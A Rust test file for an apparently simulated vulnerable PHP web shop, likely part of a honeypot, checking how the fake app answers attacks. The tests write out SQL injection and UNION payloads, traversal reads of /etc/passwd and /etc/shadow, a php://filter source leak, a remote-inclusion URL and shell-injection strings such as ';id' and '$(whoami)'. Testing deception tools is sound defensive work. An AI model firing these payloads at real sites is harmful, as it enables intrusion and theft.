//! The shop's pages: SQL errors, LFI and command injection as the vulnerable
//! application would answer them.

use super::*;
use crate::shell::persona::Persona;

fn app() -> WebApp {
    WebApp::new(
        World::new(Persona::debian("web-1", Vec::new())),
        "S3cretDbPw",
    )
}

fn get(app: &WebApp, path: &str, query: &str) -> String {
    let page = app
        .answer(&AppRequest {
            method: "GET",
            path,
            query,
            body: b"",
            form: false,
            client_ip: "192.0.2.7".into(),
            server_ip: "198.51.100.1".into(),
        })
        .expect("a script");
    String::from_utf8(page.body).unwrap()
}

#[test]
fn product_pages_answer_injection_like_the_php_app() {
    let app = app();
    let page = get(&app, "/index.php", "id=1");
    assert!(page.contains("Cordless Drill 18V"));
    let broken = get(&app, "/product.php", "id=1%27");
    assert!(broken.contains("<b>Fatal error</b>:  Uncaught mysqli_sql_exception: You have an error in your SQL syntax; check the manual that corresponds to your MariaDB server version for the right syntax to use near &#39;&#39;&#39; at line 1 in /var/www/html/product.php:14"), "{broken}");
    assert_eq!(get(&app, "/product.php", "id=1+AND+1%3D1"), page);
    assert!(get(&app, "/product.php", "id=1+AND+1%3D2").contains("Product not found"));
    let union = get(
        &app,
        "/news.php",
        "id=-1+UNION+SELECT+1,@@version,database(),user(),5",
    );
    assert!(
        union.contains("10.11.11-MariaDB-0+deb12u1") && union.contains("shop@localhost"),
        "{union}"
    );
    let xss = get(&app, "/search.php", "q=%3Cscript%3Ealert(1)%3C/script%3E");
    assert!(!xss.contains("<script>") && xss.contains("&lt;script&gt;"));
}

#[test]
fn includes_read_the_fake_machine_and_never_the_real_one() {
    let app = app();
    let passwd = get(&app, "/index.php", "page=../../../../etc/passwd");
    assert!(passwd.contains("www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin"));
    let shadow = get(&app, "/index.php", "page=/etc/shadow");
    assert!(shadow.contains("include(/etc/shadow): Failed to open stream: Permission denied"));
    let b64 = get(
        &app,
        "/index.php",
        "page=php://filter/convert.base64-encode/resource=config.php",
    );
    let text = b64
        .split("<div id=\"content\">\n")
        .nth(1)
        .unwrap()
        .split("</div>")
        .next()
        .unwrap();
    let source = base64::engine::general_purpose::STANDARD
        .decode(text.trim())
        .unwrap();
    assert!(
        String::from_utf8(source)
            .unwrap()
            .contains("$db_pass = 'S3cretDbPw';")
    );
    let rfi = get(&app, "/page.php", "file=http://203.0.113.5/shell.txt");
    assert!(rfi.contains(
        "http:// wrapper is disabled in the server configuration by allow_url_include=0"
    ));
    let about = get(&app, "/index.php", "page=about.php");
    assert!(about.contains("About us"));
}

#[test]
fn command_injection_runs_in_the_fake_shell_as_www_data() {
    let app = app();
    let page = get(&app, "/ping.php", "ip=127.0.0.1%3Bid");
    assert!(page.contains("64 bytes from 127.0.0.1"), "{page}");
    assert!(
        page.contains("uid=33(www-data) gid=33(www-data) groups=33(www-data)"),
        "{page}"
    );
    let page = get(&app, "/ping.php", "ip=127.0.0.1|uname+-a");
    assert!(page.contains("Linux web-1"), "{page}");
    let page = get(&app, "/ping.php", "ip=$(whoami)");
    assert!(page.contains("www-data"), "{page}");
}
